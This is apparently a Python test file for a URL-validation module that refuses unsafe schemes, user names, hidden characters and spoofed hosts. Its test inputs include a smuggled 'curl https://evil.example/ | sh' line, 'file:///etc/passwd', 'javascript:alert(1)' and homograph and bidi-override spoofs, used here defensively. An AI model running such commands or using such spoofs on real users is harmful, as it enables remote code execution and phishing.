"""Which addresses may be opened, and how they are shown before."""

import re
from urllib.parse import urlsplit

import pytest
from hypothesis import given
from hypothesis import strategies as st

from irtui.model.addresses import (
    Address,
    UnsafeAddressError,
    address,
    address_in,
    address_to_copy,
    is_plain,
)
from irtui.model.records import Source
from irtui.model.safe_text import unsafe_characters
from tests.each import each
from tests.query.answers import BUNDLED, world

HIDDEN = "it has a line break or a hidden character"


@each(
    ("text", "url"),
    [
        ("https://example.org/a?b=c#d", "https://example.org/a?b=c#d"),
        ("http://example.org", "http://example.org"),
        ("HTTPS://Example.ORG/Path", "https://example.org/Path"),
        ("  https://example.org/\n", "https://example.org/"),
        ("https://example.org:8080/", "https://example.org:8080/"),
        ("https://example.org:/", "https://example.org/"),
        ("https://example.org:0/", "https://example.org:0/"),
        ("https://under_score.example.org/", "https://under_score.example.org/"),
        ("http://127.0.0.1:80/x", "http://127.0.0.1:80/x"),
        ("http://[::1]/", "http://[::1]/"),
        ("http://[2001:DB8::1]:443/", "http://[2001:db8::1]:443/"),
        ("http://[::ffff:1.2.3.4]/", "http://[::ffff:1.2.3.4]/"),
        ("https://example.org/a b", "https://example.org/a%20b"),
        ("https://example.org/%D0%B8", "https://example.org/%D0%B8"),
        ("https://example.org/100%", "https://example.org/100%"),
        ("https://example.org/Бойцов?q=भारत#ü", None),
        ("https://example.org/\\evil", "https://example.org/%5Cevil"),
        ("https://example.org/<b>\"'", "https://example.org/%3Cb%3E%22'"),
        ("https://example.org/@user:x", "https://example.org/@user:x"),
    ],
)
def test_an_address_of_the_web_is_written_in_ascii(text: str, url: str | None) -> None:
    found = address(text)
    assert url is None or found.url == url
    assert found.url.isascii()
    assert not found.disguised
    assert address(found.url) == found


@pytest.mark.parametrize(
    ("text", "host"),
    [
        ("https://bücher.example/", "xn--bcher-kva.example"),
        ("https://BÜCHER.example/", "xn--bcher-kva.example"),
        ("https://аpple.com/", "xn--pple-43d.com"),  # the first letter is Cyrillic
        ("https://россия.рф/", "xn--h1alffa9f.xn--p1ai"),
        ("https://भारत.example/", "xn--h2brj9c.example"),
        ("https://evil。com/", "evil.com"),
        ("https://ℂ.example/", "c.example"),
    ],
)
def test_a_host_that_looks_other_than_it_reads_is_given_away(text: str, host: str) -> None:
    found = address(text)
    assert (found.host, found.disguised) == (host, True)
    assert urlsplit(found.url).hostname == host


@each(
    ("text", "why"),
    [
        ("", "only http and https"),
        ("example.org", "only http and https"),
        ("//example.org/", "only http and https"),
        ("ftp://example.org/", "only http and https"),
        ("file:///etc/passwd", "only http and https"),
        ("javascript:alert(1)", "only http and https"),
        ("data:text/html,x", "only http and https"),
        ("mailto:a@example.org", "only http and https"),
        ("-https://example.org", "only http and https"),
        ("http:", "it has no host"),
        ("http:example.org", "it has no host"),
        ("http:/example.org", "it has no host"),
        ("http:///example.org", "it has no host"),
        ("http://:80/", "it has no host"),
        ("http:\\\\example.org", "it has no host"),
        ("https://good.example@evil.example/", "it has a user name"),
        ("https://user:word@example.org/", "it has a user name"),
        ("https://@example.org/", "it has a user name"),
        ("https://:@example.org/", "it has a user name"),
        ("https://evil.example\\@good.example/", "it has a user name"),
        ("http://example.org:x/", "is not an address"),
        ("http://example.org:65536/", "is not an address"),
        ("http://example.org:-1/", "is not an address"),
        ("http://[::1/", "is not an address"),
        ("http://a..b/", "its host name is not valid"),
        ("http://./", "its host name is not valid"),
        (f"http://{'a' * 64}.example/", "its host name is not valid"),
        # A browser goes to evil.example; who reads the whole host sees good.example at its end.
        ("https://evil.example\\.good.example/", "its host name is not valid"),
        ("https://%65vil.example/", "its host name is not valid"),
        ("https://exa mple.org/", "its host name is not valid"),
        ('https://exa"mple.org/', "its host name is not valid"),
        ("https://exa|mple.org/", "its host name is not valid"),
        ("http://[fe80::1%25eth0]/", "its host name is not valid"),
        ("http://[v1.example]/", "valid"),
        ("https://exa<U+200B>mple.org/", HIDDEN),  # after safe_text
        ("https://example.org/␉x", HIDDEN),
    ],
)
def test_all_else_is_not_opened_and_the_reason_is_given(text: str, why: str) -> None:
    with pytest.raises(UnsafeAddressError) as raised:
        address(text)
    assert why in str(raised.value)
    assert text in str(raised.value)
    assert address_to_copy(text) is None


@each(
    "text",
    [
        "https://example.org/\ncurl https://evil.example/ | sh",
        "https://example.org/\r\nx",
        "https://example.org/a\tb",
        "https://exa\nmple.org/",
        "java\nscript:alert(1)",
        "https://example.org/\u202egpj.exe",
        "https://exam\u00adple.org/",
        "https://exam\u200bple.org/",
        "https://exa\x01mple.org/",
        "https://example.org/\ud800",
        "https://example.org/\u3164",
        "https://example.org/\ufffe",
    ],
)
def test_a_second_line_or_a_hidden_sign_is_refused_and_told_on_one_safe_line(text: str) -> None:
    with pytest.raises(UnsafeAddressError, match=HIDDEN) as raised:
        address(text)
    assert not unsafe_characters(str(raised.value), line=True)
    assert address_to_copy(text) is None


@pytest.mark.parametrize(
    ("text", "copied"),
    [
        (" https://example.org/Бойцов\n", "https://example.org/Бойцов"),
        ("https://аpple.com/", "https://xn--pple-43d.com/"),
        ("https://example.org/a\u3000b", "https://example.org/a%E3%80%80b"),
        (None, None),
    ],
)
def test_an_address_is_copied_as_one_reads_it_unless_that_deceives(
    text: str | None, copied: str | None
) -> None:
    assert address_to_copy(text) == copied


HOSTS = st.text(
    st.characters(codec="utf-8") | st.sampled_from("abz09.-_:@[]\\%/ \t\n\u00ad\u200b。"),
    max_size=12,
)
TEXTS = st.one_of(
    st.text(),
    st.text(st.characters()),  # lone surrogates, too
    st.builds(
        "{}://{}{}".format,
        st.sampled_from(["http", "HTTPS", "ftp", ""]),
        HOSTS,
        st.text(max_size=9),
    ),
)


@given(TEXTS)
def test_any_text_is_refused_or_gives_an_address_that_cannot_deceive(text: str) -> None:
    try:
        found = address(text)
    except UnsafeAddressError:
        return
    assert isinstance(found, Address)
    assert re.fullmatch(r"https?://[!-~]+", found.url)
    parts = urlsplit(found.url)
    assert parts.hostname == found.host
    assert parts.username is parts.password is None
    assert re.fullmatch(r"[a-z0-9._-]+|[0-9a-f:.]+", found.host)
    assert address(found.url) == Address(found.url, found.host, disguised=False)
    copied = address_to_copy(text)
    assert copied is not None
    assert len(copied.split()) == 1
    assert address(copied).host == found.host


def test_every_address_of_the_bundled_dataset_may_be_opened() -> None:
    for source in world(BUNDLED).table("source"):
        assert isinstance(source, Source)
        for text in (source.url, source.archive):
            if text:
                found = address(text)
                assert found.url.isascii()
                assert not found.disguised


def test_an_id_is_quoted_in_the_address_of_a_register_but_for_its_parts() -> None:
    assert (
        address_in("https://example.org/{}#x", "a b/c:d?") == "https://example.org/a%20b/c:d%3F#x"
    )


@pytest.mark.parametrize(
    ("text", "plain"),
    [
        ("https://example.org/a", True),
        ("https://Example.org/a", False),
        ("https://example.org/ü", False),
        ("https://bücher.example/", False),
        ("", False),
    ],
)
def test_nearly_all_addresses_are_known_to_be_plain_at_once(text: str, plain: bool) -> None:
    assert is_plain(text) is plain
